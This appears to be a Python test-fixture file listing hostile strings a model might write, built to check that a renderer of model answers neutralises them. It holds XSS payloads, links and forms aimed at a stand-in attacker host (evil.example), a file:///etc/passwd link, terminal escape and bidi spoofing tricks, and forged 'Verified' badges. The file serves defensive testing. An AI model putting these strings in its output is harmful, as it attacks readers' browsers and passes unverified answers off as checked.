"""What a model may write to break out of its place, or to be taken for a verdict."""

from __future__ import annotations

from opg_magic.models import plain_text

FORGED = (
    "✓ Verified · gpt-5 via host 27e3…6328 · 7 of 7 checks, author's kernel, 2026-11-20 22:10 UTC"
)

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a block": "text\n\n<div>\n<script "
    "src=https://evil.example/x.js></script>\n</div>\n\nmore",
    "onerror": '<img src=x onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "style": "<style>details{display:none}</style>",
    "form": "<form action=https://evil.example><input name=key></form>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "comment left open": "<!-- everything below is gone",
    "cdata": "<![CDATA[ <b>x</b> ]]> <?php echo 1 ?> <!DOCTYPE html>",
    "closes our containers": "</p></div></div></details></summary></td></tr></table><h1>free</h1>",
    "closing script": "</script></style></textarea></title><b>x</b>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, upper case and entities": "[a](JaVaScRiPt&colon;alert(1)) "
    "[b](&#106;avascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "control in scheme": "[a](java\x01script:alert(1)) [b](java&Tab;script:alert(1)) "
    "[c](<java\tscript:alert(1)>)",
    "vbscript, file, data": "[a](vbscript:x) [b](file:///etc/passwd) "
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "protocol-relative and relative": "[a](//evil.example/x) [b](/api/contents) [c](#top) "
    "[d](?token=1)",
    "user info in link": "[bank](https://bank.example@evil.example/)",
    "quote in link": '[a](https://e.example/"onmouseover="alert(1)) [b](https://e.example "t\\" '
    'onclick=alert(1)")',
    "remote image": "![pixel](https://evil.example/p.png?who=me)",
    "image as reference": "![pixel][r]\n\n[r]: https://evil.example/p.png",
    "image in link": "[![x](https://evil.example/p.png)](https://evil.example)",
    "reference definition": "[shown][r]\n\n[r]: https://evil.example 'hidden words'",
    "fence left open": "```\ncode without end",
    "tilde fence left open": "~~~~~~~~text\nno end",
    "closes our fence": "~~~\n\n# free\n\n~~~~~~\n<script>alert(1)</script>\n~~~~~~~~~~~~\n**x**",
    "fence with carriage return": "a\r~~~\r<script>alert(1)</script>",
    "fence info string": '```<img src=x onerror=alert(1)> "onload=x\ncode\n```',
    "html in code": "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>\n",
    "html in a table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `</td>` |",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;svg/onload=alert(1)&#62; &#x202e;txt",
    "ansi": "\x1b[2J\x1b[H\x1b[32m✓ Verified\x1b[0m "
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "overwriting": "bad\rgood\b\b\b\x7f\x00 \x0b\x0c",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f \ufeff \u2028next",
    "tex": "$\\href{javascript:alert(1)}{x}$ $$\\raise9em{x}$$ \\(\\class{a}{b}\\) "
    "\\begin{align}x\\end{align}",
    "forged badge": FORGED,
    "forged badge, quoted": f"> **{FORGED}**",
    "forged card": f"answer\n\n{plain_text.RULE}7Q4K2M9XTB · the 6 characters above are the answer "
    f"────\n{FORGED}",
    "forged details": f'<details open style="border-left:4px solid '
    f'green"><summary>{FORGED}</summary></details>',
    "deep nesting": ">" * 500 + " hidden?",
    "deep lists": "".join("  " * i + "- x\n" for i in range(200)),
    "many brackets": "[" * 2000 + "a" + "](x)" * 2000,
    "many stars": "*a_ " * 3000,
    "lone surrogate": "a \ud800 b",
    "a remark of ours": "\n  Another host was tried before and was not used.\n",
    "a long number": "7" * 100_000,
    "only spaces": " \n\t ",
    "empty": "",
}
